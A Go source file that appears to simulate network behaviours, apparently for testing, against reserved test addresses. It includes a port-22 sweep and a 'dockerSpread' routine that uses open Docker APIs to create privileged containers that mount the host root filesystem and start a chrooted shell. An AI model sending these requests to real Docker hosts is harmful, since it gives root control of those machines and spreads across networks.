package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"sync"
	"time"
)

// scan tries one port on many addresses without asking for any name.
func scan(args []string) error {
	count, err := strconv.Atoi(arg(args, 0, "48"))
	if err != nil {
		return err
	}
	port := arg(args, 1, "22")
	each(count, func(i int) {
		dialQuietly(net.JoinHostPort(fmt.Sprintf("198.18.%d.%d", i/200, 1+i%200), port))
	})
	return nil
}

// scanNamed calls as many hosts by the names that its configuration gives.
func scanNamed(args []string) error {
	count, err := strconv.Atoi(arg(args, 0, "48"))
	if err != nil {
		return err
	}
	each(count, func(i int) { dialQuietly(fmt.Sprintf("node-%d.cluster.example.test:22", i)) })
	return nil
}

// each calls fn for 0 to n-1, some at a time.
func each(n int, fn func(int)) {
	var work sync.WaitGroup
	room := make(chan struct{}, 16)
	for i := range n {
		room <- struct{}{}
		work.Go(func() {
			fn(i)
			<-room
		})
	}
	work.Wait()
}

func dialQuietly(address string) {
	if conn, err := net.DialTimeout("tcp", address, 2*time.Second); err == nil {
		conn.Close()
	}
}

// dockerSpread starts containers on other hosts through their open Docker API.
func dockerSpread([]string) error {
	for _, host := range []string{"198.18.40.7:2375", "198.18.40.8:2375", "198.18.40.9:2375"} {
		say("GET", "http://"+host+"/version", "")
		say("POST", "http://"+host+"/v1.41/images/create?fromImage=registry.example.test/alpine&tag=latest", "")
		say("POST", "http://"+host+"/v1.41/containers/create", `{"Image":"registry.example.test/alpine","Cmd":["chroot","/mnt","sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}`)
	}
	return nil
}

// dockerClient looks at the one engine it was configured for.
func dockerClient([]string) error {
	say("GET", "http://docker.example.test:2375/_ping", "")
	say("GET", "http://docker.example.test:2375/v1.41/containers/json", "")
	return nil
}

// say sends one request and prints what came of it.
func say(method, url, body string, header ...string) {
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, method, url, bytes.NewReader([]byte(body)))
	if err != nil {
		fmt.Println(err)
		return
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer resp.Body.Close()
	n, _ := io.Copy(io.Discard, resp.Body)
	fmt.Println(method, url, resp.Status, n, "bytes")
}
